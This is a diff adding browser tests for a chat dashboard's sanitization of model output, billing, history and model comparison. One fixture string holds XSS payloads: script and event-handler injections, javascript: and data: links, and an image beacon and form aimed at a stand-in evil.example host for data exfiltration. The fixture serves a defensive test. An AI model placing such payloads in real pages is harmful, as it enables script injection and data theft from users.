@@ -1,0 +1,187 @@
+"""The chat in a real browser: what comes in, what it costs, what is kept, and what hostile models get."""
+
+import re
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser.test_dashboard_pages import RESULT_TIMEOUT_MS, violations
+from tests.browser.test_playground import picture
+
+pytestmark = [pytest.mark.browser, pytest.mark.ministack, pytest.mark.xdist_group("browser")]
+
+# The test model answers with what it was sent.
+ECHO = "/dashboard/chat?model=test-chat"
+HOSTILE = """Hello
+
+# Heading
+
+<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1">
+<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><style>body { display: none }</style>
+<form action="https://evil.example"><input name=card></form> <a href="javascript:window.hacked=1">one</a>
+
+[two](javascript:window.hacked=1) [three](data:text/html,<script>window.hacked=1</script>) [four](vbscript:x)
+[five](https://example.com "a\" onmouseover=\"window.hacked=1") ![six](https://evil.example/stolen.png?said=this)
+![seven](https://x.example/"onerror="window.hacked=1)
+
+```python" onclick="window.hacked=1
+def greet():
+    return "<img src=x onerror=window.hacked=1>"
+```
+
+```html
+<script>window.hacked = 1</script>
+```
+
+| <b onclick=alert(1)>a</b> | b |
+|---|---|
+| `<u>` | **bold** |
+"""
+MAY_STAND = {
+    *("P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "A", "UL", "OL", "LI"),
+    *(
+        "H3",
+        "H4",
+        "H5",
+        "H6",
+        "TABLE",
+        "THEAD",
+        "TBODY",
+        "TR",
+        "TH",
+        "TD",
+        "SPAN",
+        "DIV",
+        "BUTTON",
+        "svg",
+        "path",
+    ),
+}
+
+
+def say(page: Page, text: str, answers: int = 1) -> None:
+    """Send a message, and wait for all that was said to it."""
+    page.get_by_label("Message", exact=True).fill(text)
+    page.get_by_role("button", name="Send", exact=True).click()
+    expect(page.get_by_role("button", name="Regenerate")).to_have_count(answers, timeout=RESULT_TIMEOUT_MS)
+
+
+def ready(page: Page, path: str = ECHO) -> None:
+    """Open the chat."""
+    page.goto(path)
+    page.locator("#chat[data-ready]").wait_for()
+
+
+class TestWhatAModelWrote:
+    def test_hostile_markdown_is_text(self, page: Page) -> None:
+        ready(page)
+        say(page, HOSTILE)
+        answer = page.locator(".bubble.assistant .md")
+        expect(answer.locator("h3")).to_have_text("Heading")
+        expect(answer.locator(".hljs-name").first).to_be_visible()
+        assert page.evaluate("window.hacked") is None
+        names = answer.evaluate("(box) => [...box.querySelectorAll('*')].map((one) => one.nodeName)")
+        assert set(names) <= MAY_STAND
+        attributes = answer.evaluate(
+            "(box) => [...box.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"
+        )
+        assert not [
+            name for name in attributes if name.startswith("on") or name in ("style", "src", "srcdoc")
+        ]
+        links = answer.evaluate("(box) => [...box.querySelectorAll('a[href]')].map((one) => one.href)")
+        assert all(re.match(r"https?://", link) for link in links)
+        assert "https://example.com/" in links
+        assert "<script>window.hacked = 1</script>" in answer.inner_text()
+        assert violations(page) == []
+
+    def test_markdown_is_shown_and_its_code_copied(self, page: Page) -> None:
+        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+        ready(page)
+        say(page, "**bold** and\n\n```js\nconst a = 1;\n```")
+        answer = page.locator(".bubble.assistant .md")
+        expect(answer.locator("strong")).to_have_text("bold")
+        answer.get_by_role("button", name="Copy the code").click()
+        assert page.evaluate("navigator.clipboard.readText()") == "const a = 1;"
+
+
+class TestAConversation:
+    def test_it_streams_is_billed_and_its_key_is_nowhere_but_in_the_module(self, page: Page) -> None:
+        ready(page, "/dashboard/chat?model=claude-haiku-4-5")
+        say(page, "Say hello [[tokens 20]] [[think]]")
+        answer = page.locator(".bubble.assistant")
+        note = answer.locator("small").inner_text()
+        found = re.match(r"(\d+) in · (\d+) out · \$([\d.]+)", note)
+        assert found is not None, note
+        # Published: $1 per 1M tokens in, $5 out
+        expected = (int(found[1]) * 1 + int(found[2]) * 5) / 1_000_000
+        assert float(found[3]) == pytest.approx(expected, rel=0.05)
+        expect(page.locator("[data-total]")).to_contain_text(f"${found[3]}")
+        reasoning = answer.locator("details.reasoning")
+        expect(reasoning.locator("p")).to_be_hidden()
+        reasoning.locator("summary").click()
+        expect(reasoning.locator("p")).not_to_be_empty()
+        assert violations(page) == []
+        assert "tg_live_" not in page.content()
+        assert page.evaluate("JSON.stringify([localStorage, sessionStorage])").count("tg_live_") == 0
+
+    def test_it_is_edited_made_again_kept_and_deleted(self, page: Page) -> None:
+        ready(page)
+        say(page, "first words")
+        page.get_by_role("button", name="Regenerate").click()
+        expect(page.locator(".bubble.assistant .acts")).to_be_visible(timeout=RESULT_TIMEOUT_MS)
+        expect(page.locator(".bubble.assistant .md")).to_contain_text("first words")
+        page.locator(".bubble.user").hover()
+        page.get_by_role("button", name="Edit and send again").click()
+        page.get_by_label("Edit the message").fill("second words")
+        page.locator(".bubble.user").get_by_role("button", name="Send").click()
+        expect(page.locator(".bubble.assistant .md")).to_contain_text("second words")
+        expect(page.locator(".turn")).to_have_count(1)
+
+        page.get_by_role("button", name="History").click()
+        expect(page.locator("[data-history] li").first).to_contain_text("first words")
+        ready(page)
+        expect(page.locator(".turn")).to_have_count(0)
+        page.get_by_role("button", name="History").click()
+        page.locator("[data-history]").get_by_role("button", name="first words").first.click()
+        expect(page.locator(".bubble.assistant .md")).to_contain_text("second words")
+        page.get_by_role("button", name="History").click()
+        page.get_by_role("button", name="Delete: first words").click()
+        expect(page.locator("[data-history]")).to_contain_text("No conversations yet.")
+
+    def test_two_models_are_asked_at_once_with_a_picture_and_the_code_is_of_this_very_one(
+        self, page: Page
+    ) -> None:
+        ready(page, "/dashboard/chat?model=gpt-5.4-mini")
+        page.get_by_role("button", name="Compare").click()
+        page.get_by_label("Second model").select_option("claude-haiku-4-5")
+        page.locator("[data-compose] input[type=file]").set_input_files(picture())
+        expect(page.get_by_role("button", name="Remove boat.png")).to_be_visible()
+        page.get_by_role("button", name="Settings").click()
+        page.get_by_label("System prompt").fill("You name colours.")
+        page.get_by_label("Maximum tokens").fill("200")
+        page.get_by_role("button", name="Done").click()
+        say(page, "What is in it?", answers=2)
+        expect(page.locator(".bubble.assistant .problem:not(:empty)")).to_have_count(0)
+        expect(page.locator(".bubble.user canvas")).to_be_visible()
+        assert violations(page) == []
+        page.get_by_role("button", name="Code").click()
+        code = page.locator("#code pre").first
+        for part in (
+            "You name colours.",
+            "What is in it?",
+            "data:image/png;base64,…",
+            "max_completion_tokens",
+        ):
+            expect(code).to_contain_text(part)
+        assert violations(page) == []
+
+    def test_it_is_stopped_and_what_goes_wrong_is_said(self, page: Page) -> None:
+        ready(page, "/dashboard/chat?model=gpt-5.4-mini")
+        page.get_by_label("Message", exact=True).fill("a long one [[tokens 400]] [[delay 100]]")
+        page.keyboard.press("Enter")
+        expect(page.locator(".bubble.assistant .md")).not_to_be_empty(timeout=RESULT_TIMEOUT_MS)
+        page.get_by_role("button", name="Stop").click()
+        expect(page.locator(".bubble.assistant .problem")).to_contain_text("Stopped")
+        page.get_by_role("button", name="New").click()
+        say(page, "Say hello [[error-in-stream]]")
+        expect(page.locator(".bubble.assistant.bad .problem")).not_to_be_empty()
